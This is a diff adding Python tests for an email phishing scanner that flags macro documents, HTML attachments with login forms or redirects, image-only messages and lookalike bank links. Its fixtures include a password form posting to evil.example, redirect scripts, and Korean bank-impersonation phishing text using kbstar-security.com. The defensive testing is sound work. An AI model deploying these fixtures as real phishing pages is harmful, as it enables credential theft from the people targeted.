@@ -1,0 +1,114 @@
+"""Structural signals: macro documents, HTML attachments, pictures without text, and how they score."""
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from app.mail.decode import Attachment, DecodedMessage, decode_message
+from app.policy.settings import SPECS, SettingError, Settings
+from app.policy.signal_scores import SIGNAL_SCORES
+from app.policy.signals import message_signals
+from app.scan.documents import document_findings
+
+from .documents import ole, ooxml
+
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+def kinds(name: str, data: bytes, ctype: str = "application/octet-stream") -> list[str]:
+    return [f.kind for f in document_findings([Attachment(name, ctype, len(data), data)])]
+
+
+def test_macro_documents_by_name_by_zip_content_and_by_ole_storage():
+    assert kinds("매출.xlsx", ooxml(macros=False), XLSX) == []
+    assert kinds("매출.xlsx", ooxml(macros=True), XLSX) == ["macro"]  # vbaProject.bin whatever the name says
+    assert kinds("report.zip", ooxml(macros=True, main="word/document.xml")) == ["macro"]
+    assert kinds("청구서.xlsm", ooxml(macros=False)) == ["macro"]
+    assert kinds("INVOICE.DOCM", b"") == ["macro"]
+    assert kinds("old.doc", ole(("Macros", "VBA", "_VBA_PROJECT"), ("WordDocument",))) == ["macro"]
+    assert kinds("old.xls", ole(("_VBA_PROJECT_CUR", "VBA", "dir"), ("Workbook",))) == ["macro"]
+    assert kinds("noname", ole(("_VBA_PROJECT_CUR", "VBA", "dir"))) == ["macro"]
+    assert kinds("plain.doc", ole(("WordDocument",), ("SummaryInformation",))) == []
+    assert kinds("plain.xls", ole(("Workbook",))) == []
+
+
+def test_damaged_documents_are_not_findings_and_never_raise():
+    head = ole(("Macros", "VBA", "_VBA_PROJECT"))
+    for data in (head[:600], b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4000, b"PK\x03\x04garbage",
+                 ooxml(macros=True)[:-30]):
+        assert kinds("x.doc", data) == []
+
+
+def test_html_attachments_with_forms_scripts_or_redirects():
+    login = '<html><body><form action="https://evil.example/p"><input name=u><INPUT TYPE="Password" name=p>' \
+            '</form></body></html>'.encode()
+    assert kinds("결제내역.html", login, "text/html") == ["html-form"]
+    [finding] = document_findings([Attachment("결제내역.html", "text/html", len(login), login)])
+    assert "password field" in finding.reason
+    assert kinds("a.htm", b"<form method=post><input type=text></form>") == ["html-form"]
+    assert kinds("b.html", b"<script>location='https://evil.example'</script>") == ["html-script"]
+    assert kinds("c.html", b'<meta http-equiv="refresh" content="0;url=https://evil.example">') == ["html-script"]
+    assert kinds("d", b"<p>Invoice attached</p>", "text/html") == []
+    assert kinds("notes.txt", b"<form>") == []
+
+
+def mime(html: str | None = None, text: str | None = None, image: bool = False) -> bytes:
+    parts = []
+    if text is not None:
+        parts.append(f"Content-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n")
+    if html is not None:
+        parts.append(f"Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n")
+    if image:
+        png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 64).decode()
+        parts.append(f"Content-Type: image/png\r\nContent-Disposition: inline; filename=a.png\r\n"
+                     f"Content-Transfer-Encoding: base64\r\n\r\n{png}\r\n")
+    body = "".join(f"--b\r\n{p}" for p in parts) + "--b--\r\n"
+    return ("From: kim@example.co.kr\r\nSubject: 안내\r\nMIME-Version: 1.0\r\n"
+            f"Content-Type: multipart/mixed; boundary=b\r\n\r\n{body}").encode()
+
+
+def names(raw: bytes, overrides=None) -> list[str]:
+    return message_signals(decode_message(raw), overrides).names
+
+
+def test_image_only_and_almost_no_text():
+    assert names(mime(html='<img src="cid:a.png">', image=True)) == ["image-only"]
+    assert names(mime(html='<a href="https://shop.example/x"><img src="https://cdn.example/b.jpg"></a>')) == [
+        "image-only", "almost-no-text"]
+    assert names(mime(text="확인: https://shop.example/order/1234567890")) == ["almost-no-text"]
+    letter = "안녕하세요. 지난주 회의에서 말씀드린 견적서를 첨부합니다. 검토 부탁드립니다."
+    assert names(mime(html=f'<p>{letter}</p><img src="cid:logo">', image=True)) == []
+    assert names(mime(text=letter + " https://www.example.co.kr/quote")) == []
+
+
+def test_a_phishing_message_scores_each_signal_once_and_scores_come_from_the_table():
+    html = ('<p>고객님의 계정이 잠겼습니다. 아래에서 본인 확인을 진행해 주세요. 확인하지 않으면 이용이 제한됩니다.</p>'
+            '<a href="https://kbstar-security.com/a">www.kbstar.com</a> <a href="https://kbstar-security.com/b">x</a>'
+            '<a href="https://bit.ly/x">택배</a>')
+    signals = message_signals(decode_message(mime(html=html)))
+    assert signals.names == ["link-brand-lookalike", "link-text-mismatch", "link-shortener"]
+    assert [h.score for h in signals.hits] == [SIGNAL_SCORES[n] for n in signals.names]
+    assert signals.hits[0].snippet == "kbstar-security.com (looks like kbstar.com)"
+    assert {h.category for h in signals.hits} == {"signal"}
+    quiet = message_signals(decode_message(mime(html=html)), {"link-shortener": 0, "link-text-mismatch": 1})
+    assert quiet.names == ["link-brand-lookalike", "link-text-mismatch"] and quiet.hits[1].score == 1
+
+
+def test_a_macro_attachment_is_a_signal():
+    data = ooxml(macros=True)
+    message = DecodedMessage(text="첨부 파일을 확인해 주세요. 급한 건이라 오늘 중으로 회신 부탁드립니다.",
+                             attachments=[Attachment("견적.xlsx", XLSX, len(data), data)])
+    [hit] = message_signals(message).hits
+    assert (hit.name, hit.field, hit.snippet, hit.score) == ("attachment-macro", "attachment", "견적.xlsx", 10.0)
+
+
+def test_signal_scores_setting():
+    spec = SPECS["content.signal_scores"]
+    assert spec.parse(" Link-Shortener=0 , image-only = 1.5") == "link-shortener=0,image-only=1.5"
+    for bad in ("nope=1", "link-shortener", "link-shortener=x", "image-only=inf"):
+        with pytest.raises(SettingError):
+            spec.parse(bad)
+    settings = Settings.from_rows({"content.signal_scores": "image-only=1.5"})
+    assert settings.signal_scores == {"image-only": 1.5}
+    assert Settings.from_rows({"content.signal_scores": "garbage"}).signal_scores == {}
